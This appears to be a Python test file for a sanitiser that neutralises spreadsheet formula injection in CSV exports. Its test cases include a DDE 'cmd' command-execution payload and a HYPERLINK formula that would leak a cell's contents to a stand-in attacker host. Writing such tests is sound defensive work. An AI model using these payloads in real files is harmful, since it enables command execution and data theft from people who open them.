"""A file that spreadsheets open: what strangers typed stays text there."""

import csv
import re
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pascal.app.edge.words import COLUMNS, LANGUAGES
from pascal.app.faces.v1.examples.conversations import EXPORTED
from pascal.app.faces.v1.export import harmless

SIGNS = tuple("=+-@\t\r＝＋－＠")
HOSTILE = st.text(st.sampled_from("=+-@＝\t\r\n;, \"'|!aA1é\u00a0"), max_size=12)


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1, "Ver")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1",
        "\rx",
        " =1",
        "\u00a0=1",
        '"=1',
        "＝1",
        "+51 987654321",
        "+51987654321=1",
        "+",
        "-",
    ],
)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_before_it(text: str) -> None:
    assert harmless(text).startswith("'")
    assert plain(harmless(text)) == plain(text)


def plain(text: str) -> str:
    return text.replace("'", "")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Ana",
        "Ana-María",
        "ana+pascal@correo.example",
        "+51987654321",
        "a=b",
        "5",
        "'=1",
        "a; b",
        "visita, vip",
    ],
)
def test_what_is_only_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_cell_that_only_other_spreadsheets_begin_is_harmless_too() -> None:
    """Where a semicolon parts cells, one begins within ours."""
    assert harmless('Ana;=1+1;"@x') == "Ana;'=1+1;'\"@x"
    assert harmless("Ana\n=1") == "Ana\n'=1"


@given(st.lists(HOSTILE | st.text(max_size=9), min_size=1, max_size=4))
def test_no_cell_begins_with_a_command_whatever_parts_them(cells: list[str]) -> None:
    text = StringIO(newline="")
    csv.writer(text).writerow(map(harmless, cells))
    (read,) = csv.reader(StringIO(text.getvalue(), newline=""), strict=True)
    assert [*map(plain, read)] == [*map(plain, cells)]
    for cell in (part for each in read for part in re.split(r"[;\t\r\n]", each)):
        assert re.fullmatch(r"\+[0-9]{5,15}", cell) or not cell.lstrip(' \u00a0"').startswith(SIGNS)


def test_every_column_has_a_name_of_its_own_in_every_language() -> None:
    for language in range(len(LANGUAGES)):
        names = [words[language] for words in COLUMNS]
        assert len(set(names)) == len(names) == 16
        assert not names[0].startswith("ID")  # Excel takes a file that does for one of another kind


def test_the_example_that_the_reference_shows_is_one() -> None:
    head, row = csv.reader(StringIO(EXPORTED, newline=""), strict=True)
    assert (head, len(row)) == ([words[0] for words in COLUMNS], len(COLUMNS))
    assert row == [*map(harmless, row)]
